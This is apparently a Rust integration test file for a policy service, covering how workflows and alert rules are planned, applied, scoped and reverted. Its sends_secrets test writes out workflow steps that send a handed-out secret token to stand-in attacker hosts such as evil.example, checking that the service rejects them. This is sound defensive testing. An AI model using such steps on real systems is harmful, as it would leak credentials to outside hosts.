//! Workflows that come with a policy's files (S-11): as a whole, signed, and back again.

use reqwest::Method;
use serde_json::{Value, json};

use super::{events, folder, lost_device, setup, start, state_of, until, workflow};
use crate::harness::{Answer, Api, Database, Server, Setup};

const RULES: &str = "mfa_enforcement:\n  all_users: true\n  exclude_service_accounts: true\n";

async fn apply(api: &Api, files: Value) -> Answer {
    let current = api.get("/v1/policies/current").await.expect(200);
    let request = api.request(Method::PUT, "/v1/policies/current");
    let request = request.header("if-match", format!("\"{}\"", current["id"].as_str().unwrap()));
    Api::answer(request.json(&json!({ "files": files }))).await.unwrap()
}

async fn in_force(api: &Api) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let all = api.get("/v1/workflows").await.expect(200);
    all["items"].as_array().unwrap().iter().map(|one| (text(&one["name"]), text(&one["digest"]))).collect()
}

fn waiting(time: &str) -> (String, String) {
    workflow(
        "waiting",
        &format!(
            "triggers: [{{manual: {{roles: [helpdesk]}}}}]\nsteps:\n  - {{id: rest, wait: {{for: {time}}}}}\n  - {{id: tell, action: event.emit, with: {{name: rested}}}}\n"
        ),
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn s11_workflows_are_applied_with_the_policy_and_put_back_on_sqlite() {
    applied(Database::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn s11_workflows_are_applied_with_the_policy_and_put_back_on_postgresql() {
    applied(Database::Postgres).await;
}

async fn applied(database: Database) {
    let arguments = vec!["--policy-secrets=env:HANDED_OUT".to_owned(), "--outside-allowed=hooks.example".to_owned()];
    let environment = vec![("HANDED_OUT".to_owned(), "a-secret".to_owned())];
    let server = Server::start(Setup { database, arguments, environment, ..Setup::default() }).await;
    let api = server.api();
    let (lost, first) = (lost_device().1, waiting("1h").1);
    let files = json!({ "rules.yaml": RULES, "workflows/lost.yaml": lost, "workflows/waiting.yaml": first });
    let plan = api.post("/v1/policies/plan", json!({ "files": files, "days": 0 })).await.expect(200);
    let of = |plan: &Value| -> Vec<String> {
        let differences = plan["differences"].as_array().unwrap().iter();
        differences.map(|one| one["what"].as_str().unwrap().to_owned()).collect()
    };
    assert!(of(&plan).contains(&"workflows.lost_device.steps.lock".to_owned()), "{plan}");
    assert_eq!(in_force(&api).await, [], "a plan changes nothing");
    let one = apply(&api, files.clone()).await.expect(200);
    let before = in_force(&api).await;
    assert_eq!(before.iter().map(|(name, _)| name.as_str()).collect::<Vec<_>>(), ["lost_device", "waiting"]);
    assert_eq!(events(&api, "workflow.changed").await.len(), 2);
    let id = &start(&api, "waiting", json!({})).await;
    until("it waits", async || (state_of(&api, id).await == "waiting").then_some(())).await;

    // Another version of one, and the other one gone: told step by step, in force together.
    let second = json!({ "rules.yaml": RULES, "workflows/waiting.yaml": waiting("2h").1 });
    let plan = api.post("/v1/policies/plan", json!({ "files": second, "days": 0 })).await.expect(200);
    let differences = of(&plan);
    assert!(differences.contains(&"workflows.waiting.steps.rest".to_owned()), "{differences:?}");
    assert!(!differences.contains(&"workflows.waiting.steps.tell".to_owned()), "{differences:?}");
    assert_eq!(plan["is_same"], false);
    let two = apply(&api, second.clone()).await.expect(200);
    let after = in_force(&api).await;
    assert_eq!(after.len(), 1);
    assert_ne!(after[0].1, before[1].1);
    // A run goes by the version that it began with.
    assert_eq!(api.get(&format!("/v1/runs/{id}")).await.expect(200)["digest"], before[1].1.as_str());
    api.advance(3601).await;
    until("it ends after one hour", async || (state_of(&api, id).await == "completed").then_some(())).await;
    let plan = api.post("/v1/policies/plan", json!({ "files": second, "days": 0 })).await.expect(200);
    assert_eq!((&plan["is_same"], &plan["differences"]), (&json!(true), &json!([])), "{plan}");

    // Put back.
    let request = api.request(Method::POST, &format!("/v1/policies/{}/revert", one["policy"]["id"].as_str().unwrap()));
    let request = request.header("if-match", format!("\"{}\"", two["policy"]["id"].as_str().unwrap()));
    Api::answer(request.json(&json!({}))).await.unwrap().expect(200);
    assert_eq!(in_force(&api).await, before);
    // One mistake, and nothing of it is in force; nor where a secret is not handed out.
    let broken = json!({ "rules.yaml": RULES, "workflows/lost.yaml": lost.replace("user.lock", "user.lok") });
    let problem = apply(&api, broken).await.expect_problem(422, "policy-mistaken");
    assert_eq!(problem["mistakes"][0]["suggestion"], "user.lock", "{problem}");
    let secret = workflow("calls", "triggers: [{workflow: true}]\nsteps:\n  - {id: a, action: http.call, with: {url: 'https://a.example', bearer: {secret: env:NOT_THERE}}}\n").1;
    let secret = json!({ "rules.yaml": RULES, "workflows/calls.yaml": secret });
    let problem = apply(&api, secret).await.expect_problem(422, "policy-mistaken");
    assert!(problem["detail"].as_str().unwrap().contains("policy.secrets"), "{problem}");
    assert_eq!(in_force(&api).await, before);
    sends_secrets(&api).await;

    // What it takes: whoever may apply policies alone may not see or change them.
    let body = json!({ "name": "pipeline", "scopes": ["policies:read", "policies:write", "configuration:read", "configuration:write"] });
    let key = api.post("/v1/applications", body).await.expect(201)["api_key"]["key"].as_str().unwrap().to_owned();
    let pipeline = api.with_key(&key);
    apply(&pipeline, second).await.expect_problem(403, "forbidden");
    // Nor does anybody by a workflow what they may not do themselves.
    let body = json!({ "name": "other pipeline", "scopes":
        ["policies:read", "policies:write", "configuration:read", "configuration:write", "workflows:write"] });
    let key = api.post("/v1/applications", body).await.expect(201)["api_key"]["key"].as_str().unwrap().to_owned();
    let locks = json!({ "rules.yaml": RULES, "workflows/lost.yaml": lost, "workflows/waiting.yaml": waiting("3h").1 });
    let problem = apply(&api.with_key(&key), locks).await.expect_problem(403, "forbidden");
    assert!(
        problem["detail"].as_str().unwrap().contains("users:write")
            || problem["detail"].as_str().unwrap().contains("sessions"),
        "{problem}"
    );
    sees_no_more(&api).await;
    // Without any, those that files said are gone.
    apply(&api, json!({ "rules.yaml": RULES })).await.expect(200);
    assert_eq!(in_force(&api).await, []);
    assert_eq!(events(&api, "workflow.withdrawn").await.len(), 3);
}

/// A version is of workflows as well: by it two policies are told apart, and a plan for one is none for the other.
#[tokio::test(flavor = "multi_thread")]
async fn s11_policies_that_differ_in_a_workflow_alone_have_two_versions() {
    let server = Server::start(Setup::default()).await;
    let api = server.api();
    let folder = tempfile::tempdir().unwrap();
    let (path, plan) = (folder.path().to_str().unwrap(), folder.path().join("plan.json"));
    std::fs::create_dir(folder.path().join("workflows")).unwrap();
    std::fs::write(folder.path().join("rules.yaml"), RULES).unwrap();
    let write = |time: &str| std::fs::write(folder.path().join("workflows/waiting.yaml"), waiting(time).1).unwrap();
    write("1h");
    std::fs::write(&plan, server.cli(&["config", "plan", path, "--json"]).stdout).unwrap();
    let by_plan = || server.cli(&["config", "apply", path, "--plan", plan.to_str().unwrap()]);
    write("2h");
    let refused = by_plan();
    assert_eq!(refused.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("plan again"), "{refused:?}");
    write("1h");
    // A workflow that is new is told in a few lines, and step by step where that is asked for.
    let file = folder.path().join("workflows/waiting.yaml");
    let brief = server.shows(&["workflow", "diff", file.to_str().unwrap()]);
    assert!(brief.contains("+ workflows.waiting, 2 steps") && !brief.contains("steps.rest"), "{brief}");
    assert!(brief.contains("by hand: helpdesk") && brief.contains("rest … tell: 1 action, 1 wait"), "{brief}");
    let all = server.cli(&["config", "plan", path, "--full"]);
    assert!(String::from_utf8_lossy(&all.stdout).contains("+ workflows.waiting.steps.rest"), "{all:?}");
    let applied = by_plan();
    assert_eq!(applied.status.code(), Some(0), "{applied:?}");
    write("2h");
    server.shows(&["config", "apply", path]);

    let ann = api.user("ann").await;
    let session = api.session(&ann).await;
    let decided = api.post(&format!("/v1/sessions/{session}/decide"), json!({ "action": "pay" })).await.expect(200);
    let explained = api.post("/v1/policies/explain", json!({ "user_id": ann, "action": "pay" })).await.expect(200);
    server.shows(&["config", "revert", "2"]);
    let all = api.all("/v1/policies").await;
    let versions: Vec<&Value> = all.iter().map(|policy| &policy["version"]).collect();
    let [reverted, second, first, built_in] = versions[..] else { panic!("{versions:?}") };
    assert_eq!((reverted, second != first, first != built_in), (first, true, true), "{versions:?}");
    assert_eq!((&decided["policy"], &explained["version"]), (second, second), "by the version that was in force");
    let history = server.shows(&["config", "history"]);
    let shown = |version: &Value| history.matches(&version.as_str().unwrap()[..12]).count();
    assert_eq!((shown(first), shown(second), shown(built_in)), (2, 1, 1), "{history}");
}

/// Nor does anybody get to see by a workflow what they may not see themselves.
async fn sees_no_more(api: &Api) {
    let before = in_force(api).await;
    let scopes = ["policies:read", "policies:write", "configuration:read", "configuration:write", "workflows:write"];
    let body = json!({ "name": "sees nothing", "scopes": scopes });
    let key = api.post("/v1/applications", body).await.expect(201)["api_key"]["key"].as_str().unwrap().to_owned();
    let pipeline = api.with_key(&key);
    let told = "  - {id: tell, action: event.emit, with: {name: seen}}\n";
    let each = |query: &str| {
        let with = if query.ends_with("_of") { "with: {user: usr_1}, " } else { "" };
        format!(
            "triggers: [{{workflow: true}}]\nsteps:\n  - id: each\n    for_each: {{query: {query}, {with}as: one, limit: 9, breaker: {{failures: 10%, after: 20}}, steps: [{{id: tell, action: event.emit, with: {{name: seen}}}}]}}\n"
        )
    };
    for (rest, scope) in [
        (each("users"), "users:read"),
        (each("authenticators"), "authenticators:read"),
        (each("authenticators_of"), "authenticators:read"),
        (each("sessions_of"), "sessions"),
        (format!("triggers: [{{event: user.created}}]\nsteps:\n{told}"), "events:read"),
        (
            format!(
                "triggers: [{{workflow: true}}]\nsteps:\n  - {{id: w, wait: {{event: user.created, timeout: 1h, on_timeout: continue}}}}\n{told}"
            ),
            "events:read",
        ),
    ] {
        let files = json!({ "rules.yaml": RULES, "workflows/sees.yaml": workflow("sees", &rest).1 });
        let problem = apply(&pipeline, files).await.expect_problem(403, "forbidden");
        let says = problem["detail"].as_str().unwrap();
        assert!(says.contains(&format!("`{scope}`")), "{rest}: {problem}");
    }
    assert_eq!(in_force(api).await, before);
}

/// T-18, T-23: a secret that is handed out goes nowhere that the operator did not name, whoever applies files.
async fn sends_secrets(api: &Api) {
    let calling = |url: &str| {
        let steps = format!(
            "steps:\n  - {{id: a, action: http.call, with: {{url: '{url}', bearer: {{secret: env:HANDED_OUT}}}}}}\n"
        );
        let text = workflow(
            "calls",
            &format!("triggers: [{{workflow: true}}]\ninputs: {{host: {{type: text, required: true}}}}\n{steps}"),
        )
        .1;
        json!({ "files": { "rules.yaml": RULES, "workflows/calls.yaml": text }, "days": 0 })
    };
    for url in ["https://evil.example/", "https://hooks.example.evil.example/", "${inputs.host}"] {
        let problem = api.post("/v1/policies/plan", calling(url)).await.expect_problem(422, "policy-mistaken");
        let says = problem["detail"].as_str().unwrap();
        assert!(
            says.contains("outside.allowed") || says.contains("says its host itself, and is no expression as a whole"),
            "{url}: {problem}"
        );
    }
    api.post("/v1/policies/plan", calling("https://hooks.example/a")).await.expect(200);
    // Whatever the parameter is called.
    let page = "steps:\n  - {id: a, action: notify.page, with: {url: 'https://evil.example/', routing_key: {secret: env:HANDED_OUT}, message: x}}\n";
    let page = workflow("calls", &format!("triggers: [{{workflow: true}}]\n{page}")).1;
    let files = json!({ "files": { "rules.yaml": RULES, "workflows/calls.yaml": page }, "days": 0 });
    let problem = api.post("/v1/policies/plan", files).await.expect_problem(422, "policy-mistaken");
    assert!(problem["detail"].as_str().unwrap().contains("outside.allowed"), "{problem}");
}

#[tokio::test(flavor = "multi_thread")]
async fn s11_where_a_folder_says_which_workflows_there_are_none_are_applied() {
    let folder = folder(&[lost_device()]);
    let server = Server::start(setup(Database::Sqlite, &folder)).await;
    let api = server.api();
    let files = json!({ "rules.yaml": RULES, "workflows/waiting.yaml": waiting("1h").1 });
    apply(&api, files).await.expect_problem(409, "conflict");
    apply(&api, json!({ "rules.yaml": RULES })).await.expect(200);
    assert_eq!(in_force(&api).await.len(), 1, "those of the folder stay");
}

fn rule(name: &str, rest: &str) -> String {
    format!(
        "apiVersion: countersign/v1\nkind: Alert\nmetadata: {{name: {name}}}\nevents: [user.created]\nseverity: high\n{rest}"
    )
}

async fn rules(api: &Api) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let all = api.get("/v1/alert-rules").await.expect(200);
    all["items"].as_array().unwrap().iter().map(|one| (text(&one["name"]), text(&one["digest"]))).collect()
}

async fn open_alerts(api: &Api) -> usize {
    api.all("/v1/alerts?state=open").await.len()
}

#[tokio::test(flavor = "multi_thread")]
async fn s11_w11_rules_of_alerts_are_applied_with_the_policy_silenced_and_put_back_on_sqlite() {
    rules_applied(Database::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn s11_w11_rules_of_alerts_are_applied_with_the_policy_silenced_and_put_back_on_postgresql() {
    rules_applied(Database::Postgres).await;
}

async fn rules_applied(database: Database) {
    let server = Server::start(Setup { database, ..Setup::default() }).await;
    let api = server.api();
    // What came before a rule is in force is not counted by it.
    api.user("before").await;
    let files = json!({ "rules.yaml": RULES, "alerts/each.yaml": rule("each", "above: 0\n"), "alerts/many.yaml": rule("many", "above: 9\n") });
    let plan = api.post("/v1/policies/plan", json!({ "files": files, "days": 0 })).await.expect(200);
    let told: Vec<&str> =
        plan["differences"].as_array().unwrap().iter().map(|one| one["what"].as_str().unwrap()).collect();
    assert!(told.contains(&"alerts.each") && told.contains(&"alerts.many"), "{plan}");
    assert_eq!(rules(&api).await, []);
    let one = apply(&api, files).await.expect(200);
    let before = rules(&api).await;
    assert_eq!(before.iter().map(|(name, _)| name.as_str()).collect::<Vec<_>>(), ["each", "many"]);
    assert_eq!(events(&api, "alert_rule.changed").await.len(), 2);
    assert_eq!(open_alerts(&api).await, 0);
    api.user("first").await;
    until("it is counted", async || (open_alerts(&api).await == 1).then_some(())).await;
    for alert in api.all("/v1/alerts?state=open").await {
        api.post(&format!("/v1/alerts/{}/resolve", alert["id"].as_str().unwrap()), json!({ "by": "ana" }))
            .await
            .expect(200);
    }

    let two = silenced_as_a_whole(&api).await;
    // Put back; and one mistake, and nothing of it is in force.
    let request = api.request(Method::POST, &format!("/v1/policies/{}/revert", one["policy"]["id"].as_str().unwrap()));
    let request = request.header("if-match", format!("\"{}\"", two["policy"]["id"].as_str().unwrap()));
    Api::answer(request.json(&json!({}))).await.unwrap().expect(200);
    assert_eq!(rules(&api).await, before);
    let broken = json!({ "rules.yaml": RULES, "alerts/each.yaml": rule("each", "abvoe: 0\n") });
    let problem = apply(&api, broken).await.expect_problem(422, "policy-mistaken");
    assert_eq!(problem["mistakes"][1]["suggestion"], "above", "{problem}");
    let twice = json!({ "rules.yaml": RULES, "alerts/a.yaml": rule("each", "above: 0\n"), "alerts/b.yaml": rule("each", "above: 1\n") });
    apply(&api, twice).await.expect_problem(422, "policy-mistaken");
    assert_eq!(rules(&api).await, before);
    // It takes the scope of workflows; without any file, those that files said are gone.
    let body = json!({ "name": "pipeline", "scopes": ["policies:read", "policies:write"] });
    let key = api.post("/v1/applications", body).await.expect(201)["api_key"]["key"].as_str().unwrap().to_owned();
    apply(&api.with_key(&key), json!({ "rules.yaml": RULES })).await.expect_problem(403, "forbidden");
    // And that of what is no policy: to see the files, to plan them, and to have them say something else.
    let body = json!({ "name": "other", "scopes": ["policies:read", "policies:write", "workflows:write"] });
    let key = api.post("/v1/applications", body).await.expect(201)["api_key"]["key"].as_str().unwrap().to_owned();
    let other = api.with_key(&key);
    let current = other.get("/v1/policies/current").await.expect(200);
    assert_eq!(current["files"].as_object().unwrap().keys().collect::<Vec<_>>(), ["rules.yaml"], "{current}");
    let louder = json!({ "rules.yaml": RULES, "alerts/each.yaml": rule("each", "above: 1\n") });
    let planned = other.post("/v1/policies/plan", json!({ "files": louder, "days": 0 })).await;
    planned.expect_problem(403, "forbidden");
    let problem = apply(&other, louder).await.expect_problem(403, "forbidden");
    assert!(problem["detail"].as_str().unwrap().contains("configuration:write"), "{problem}");
    apply(&api, json!({ "rules.yaml": RULES })).await.expect(200);
    assert_eq!(rules(&api).await, []);
}

/// A rule is silenced as a whole, and stays so where its file says something else.
async fn silenced_as_a_whole(api: &Api) -> Value {
    let silence = json!({ "by": "ana", "reason": "a migration", "seconds": 3600 });
    let silent = api.post("/v1/alert-rules/each/silence", silence.clone()).await.expect(200);
    assert_eq!(silent["silenced"]["reason"], "a migration", "{silent}");
    api.post("/v1/alert-rules/none/silence", silence).await.expect_problem(404, "not-found");
    let told = events(api, "alert.silenced").await;
    assert_eq!((&told[0]["data"]["rule"], &told[0]["details"]["by"]), (&json!("each"), &json!("ana")), "{told:?}");
    let other = json!({ "rules.yaml": RULES, "alerts/each.yaml": rule("each", "above: 0\nwindow: 2h\n") });
    let two = apply(api, other).await.expect(200);
    assert_eq!(rules(api).await.len(), 1);
    assert_eq!(events(api, "alert_rule.withdrawn").await.len(), 1);
    for n in 0..3 {
        api.user(&format!("silent-{n}")).await;
    }
    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
    assert_eq!(open_alerts(api).await, 0, "nothing is raised meanwhile");
    api.advance(2 * 3600 + 1).await;
    api.user("loud").await;
    until("its time is over", async || (open_alerts(api).await == 1).then_some(())).await;

    two
}

/// W-10: one workflow is held against what is in force, put there and put back, and all else stays as it is.
#[tokio::test(flavor = "multi_thread")]
async fn s11_w10_one_workflow_is_compared_applied_and_rolled_back_by_itself() {
    let server = Server::start(Setup { database: Database::Sqlite, ..Setup::default() }).await;
    let api = server.api();
    let files =
        json!({ "rules.yaml": RULES, "workflows/lost.yaml": lost_device().1, "workflows/w.yaml": waiting("1h").1 });
    apply(&api, files).await.expect(200);
    let before = in_force(&api).await;
    start(&api, "waiting", json!({})).await;
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("any-name.yaml");
    std::fs::write(&path, waiting("2h").1).unwrap();
    let path = path.to_str().unwrap();
    let ran = |arguments: &[&str]| {
        let output = server.cli(arguments);
        let text = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        (output.status.success(), text)
    };
    let (is_fine, told) = ran(&["workflow", "diff", path]);
    assert!(is_fine && told.contains("~ workflows.waiting.steps.rest") && !told.contains("lost_device"), "{told}");
    assert!(told.contains("waiting is changed: 1 of its runs"), "how many it touches: {told}");
    assert_eq!(in_force(&api).await, before, "nothing is changed by looking");
    let (is_fine, told) = ran(&["workflow", "apply", path, "--by", "ana"]);
    assert!(is_fine && told.contains("is in force"), "{told}");
    let after = in_force(&api).await;
    assert_eq!((after.len(), &after[0], after[1] == before[1]), (2, &before[0], false));
    // The file keeps its name among those that were applied.
    let current = api.get("/v1/policies/current").await.expect(200);
    assert!(
        current["files"].get("workflows/w.yaml").is_some() && current["files"].as_object().unwrap().len() == 3,
        "{current}"
    );
    let (is_fine, told) = ran(&["workflow", "rollback", "waiting"]);
    assert!(is_fine, "{told}");
    assert_eq!(in_force(&api).await, before);
    let (is_fine, told) = ran(&["workflow", "rollback", "waiting", after[1].1.get(..10).unwrap()]);
    assert!(is_fine, "{told}");
    assert_eq!(in_force(&api).await, after);
    let (is_fine, told) = ran(&["workflow", "rollback", "waiting", "ffffffffff"]);
    assert!(!is_fine && told.contains("no such version"), "{told}");
    // Where none is in force, the one before is the last that was.
    apply(&api, json!({ "rules.yaml": RULES, "workflows/lost.yaml": lost_device().1 })).await.expect(200);
    assert_eq!(in_force(&api).await.len(), 1);
    let (is_fine, told) = ran(&["workflow", "rollback", "waiting"]);
    assert!(is_fine, "{told}");
    assert_eq!(in_force(&api).await, after);
    std::fs::write(path, waiting("2h").1.replace("event.emit", "event.emti")).unwrap();
    let (is_fine, told) = ran(&["workflow", "apply", path]);
    assert!(!is_fine && told.contains("event.emit"), "{told}");
    assert_eq!(in_force(&api).await, after);
}
